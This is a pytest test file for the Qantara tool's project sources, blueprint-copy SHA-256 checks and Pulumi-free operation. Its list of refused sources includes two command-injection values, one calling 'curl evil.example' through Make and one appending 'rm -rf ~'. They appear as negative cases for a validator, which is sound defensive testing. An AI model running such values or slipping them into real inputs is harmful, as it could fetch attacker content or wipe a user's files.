"""Where a project gets Qantara and its blueprint from (qantara.project.sources), and that the
core Qantara a project installs works without the Pulumi `platform` extra."""

from __future__ import annotations

import subprocess
import sys
import textwrap
import tomllib
from pathlib import Path

import pytest

from qantara.errors import ProjectError
from qantara.paths import project_root
from qantara.project.sources import (
    default_qantara_source,
    qantara_source_problems,
    verify_blueprint_copy,
    write_blueprint_copy,
)

REPO = project_root()
PULUMI_DISTRIBUTIONS = ("pulumi", "pulumi-aws", "pulumi-kubernetes", "pulumi-policy")


def test_the_default_source_is_this_checkout_and_is_accepted():
    assert Path(default_qantara_source()) == REPO
    assert qantara_source_problems(default_qantara_source()) == []


@pytest.mark.parametrize("url", ["git+https://git.corp.example/platform/qantara.git#egg=qantara",
                                 "git+https://git.corp.example/platform/qantara.git@v0.1.0#egg=qantara",
                                 "git+ssh://git@git.corp.example/platform/qantara.git#egg=qantara"])
def test_an_organisations_git_url_is_accepted(url):
    assert qantara_source_problems(url) == []


@pytest.mark.parametrize("value", [
    "qantara",  # a bare name: whoever publishes it on a public index wins
    "qantara>=0.1",
    "qantara @ https://pypi.example/qantara.whl",
    "git+http://git.corp.example/qantara.git#egg=qantara",  # unencrypted
    "git+https://git.corp.example/qantara.git",  # no #egg: pip cannot tell what it installs
    "git+https://git.corp.example/qantara.git#egg=qantara-evil",
    "https://git.corp.example/qantara.git",
    "../qantara",  # relative: means something else in CI
    "/opt/qantara $(shell curl evil.example)",  # Make would run it
    "/opt/qantara;rm -rf ~",
])
def test_anything_else_is_refused_with_what_is_allowed(value):
    problems = qantara_source_problems(value)
    assert len(problems) == 1 and "qantara_source" in problems[0] and "never a bare package name" in problems[0]


def test_a_directory_that_is_not_a_qantara_checkout_is_refused(tmp_path):
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "qantara-lookalike"\n')
    assert qantara_source_problems(str(tmp_path))
    (tmp_path / "pyproject.toml").write_text("not toml [")
    assert qantara_source_problems(str(tmp_path))
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "qantara"\n')
    assert qantara_source_problems(str(tmp_path)) == []


def test_the_blueprint_copy_verifies_until_someone_edits_it(tmp_path):
    source = tmp_path / "platform.yaml"
    source.write_text("metadata: {name: p}\n")
    project = tmp_path / "project"
    write_blueprint_copy(project, source)
    copy = project / "platform" / "blueprint.yaml"
    verify_blueprint_copy(copy)
    copy.write_text("metadata: {name: p}\nspec: {dataResidency: anywhere}\n")
    with pytest.raises(ProjectError, match="SHA-256.*was changed"):
        verify_blueprint_copy(copy)
    (project / "platform" / "blueprint.yaml.sha256").write_text("")
    with pytest.raises(ProjectError):
        verify_blueprint_copy(copy)


def test_the_copy_digest_is_what_sha256sum_checks(tmp_path):
    source = tmp_path / "platform.yaml"
    source.write_text("metadata: {name: p}\n")
    write_blueprint_copy(tmp_path, source)
    result = subprocess.run(["sha256sum", "-c", "blueprint.yaml.sha256"], cwd=tmp_path / "platform",
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_core_dependencies_leave_pulumi_to_the_platform_extra():
    project = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    named = " ".join(project["dependencies"])
    assert not any(d in named for d in PULUMI_DISTRIBUTIONS)
    platform = " ".join(project["optional-dependencies"]["platform"])
    assert all(d in platform for d in PULUMI_DISTRIBUTIONS)
    # `make setup` installs .[dev]: the repository's own tests plan platforms.
    assert "qantara[platform]" in project["optional-dependencies"]["dev"]


BLOCK_PULUMI = textwrap.dedent("""
    import sys
    class Block:
        def find_spec(self, name, path=None, target=None):
            if name.split(".")[0] in ("pulumi", "pulumi_aws", "pulumi_kubernetes", "pulumi_policy"):
                raise ModuleNotFoundError(f"No module named {name!r}", name=name)
    sys.meta_path.insert(0, Block())
    sys.argv = ["qantara", *sys.argv[1:]]
    from qantara.cli import main
    main()
""")


def _qantara_without_pulumi(tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    script = tmp_path / "no_pulumi.py"
    script.write_text(BLOCK_PULUMI)
    return subprocess.run([sys.executable, str(script), *args], capture_output=True, text=True, cwd=tmp_path)


def test_new_and_check_project_work_without_pulumi_and_planning_says_which_extra(tmp_path):
    blueprint = REPO / "blueprints" / "ae-health-cloud.yaml"
    created = _qantara_without_pulumi(tmp_path, "new", "ml-project", "--blueprint", str(blueprint), "--no-input",
                                      "--output-dir", str(tmp_path / "out"))
    assert created.returncode == 0, created.stderr
    project = tmp_path / "out" / "readmission_risk"
    dev = _qantara_without_pulumi(tmp_path, "check", "--project", str(project), "--env", "dev")
    assert dev.returncode == 0 and "Verdict: PASS" in dev.stdout, dev.stdout + dev.stderr
    # prod fails, and says what is missing: the approval.
    prod = _qantara_without_pulumi(tmp_path, "check", "--project", str(project), "--env", "prod")
    assert prod.returncode != 0 and "no approval recorded for production environment prod" in prod.stdout
    plan = _qantara_without_pulumi(tmp_path, "plan", str(blueprint), "--env", "dev")
    assert plan.returncode != 0 and "platform extra" in plan.stderr + plan.stdout
    assert "Traceback" not in plan.stderr


def test_check_project_refuses_an_edited_blueprint_copy(tmp_path):
    from qantara.project.check import check_project
    from qantara.project.generate import new_ml_project

    project = new_ml_project(REPO / "blueprints" / "ae-health-cloud.yaml", answers={}, no_input=True,
                             output_dir=tmp_path)
    assert check_project(project, "dev").verdict == "pass"
    copy = project / "platform" / "blueprint.yaml"
    original = copy.read_text(encoding="utf-8")
    edited = original.replace("approvers:", "approvers: [data-scientist@example.org]\n  formerApprovers:", 1)
    assert edited != original
    copy.write_text(edited)
    with pytest.raises(ProjectError, match="was changed"):
        check_project(project, "prod")


def test_update_refreshes_the_blueprint_copy_when_the_platform_changes_it(tmp_path):
    from qantara.project.generate import new_ml_project
    from qantara.project.update import update_project

    blueprint = tmp_path / "platform.yaml"
    blueprint.write_bytes((REPO / "blueprints" / "ae-health-cloud.yaml").read_bytes())
    project = new_ml_project(blueprint, answers={}, no_input=True, output_dir=tmp_path)
    assert update_project(project) == []  # nothing changed anywhere
    blueprint.write_text(blueprint.read_text(encoding="utf-8") + "# reviewed by the platform team\n")
    messages = update_project(project)
    assert messages == ["updated platform/blueprint.yaml: copied from ../platform.yaml (SHA-256 in "
                        "platform/blueprint.yaml.sha256)"]
    copy = project / "platform" / "blueprint.yaml"
    assert copy.read_bytes() == blueprint.read_bytes()
    verify_blueprint_copy(copy)


def test_update_check_and_diff_say_what_would_change_and_change_nothing(tmp_path):
    from typer.testing import CliRunner

    from qantara.cli import app
    from qantara.project.generate import new_ml_project

    blueprint = tmp_path / "platform.yaml"
    blueprint.write_bytes((REPO / "blueprints" / "ae-health-cloud.yaml").read_bytes())
    project = new_ml_project(blueprint, answers={}, no_input=True, output_dir=tmp_path)
    runner = CliRunner()
    clean = runner.invoke(app, ["update", str(project), "--check"])
    assert clean.exit_code == 0 and "up to date" in clean.output
    blueprint.write_text(blueprint.read_text(encoding="utf-8") + "# reviewed by the platform team\n")
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    stale = runner.invoke(app, ["update", str(project), "--check"])
    assert stale.exit_code == 1 and "updated platform/blueprint.yaml" in stale.output
    shown = runner.invoke(app, ["update", str(project), "--diff"])
    assert shown.exit_code == 0 and "+# reviewed by the platform team" in shown.output
    assert "--- a/platform/blueprint.yaml" in shown.output and ".cruft.json" not in shown.output
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()} == before
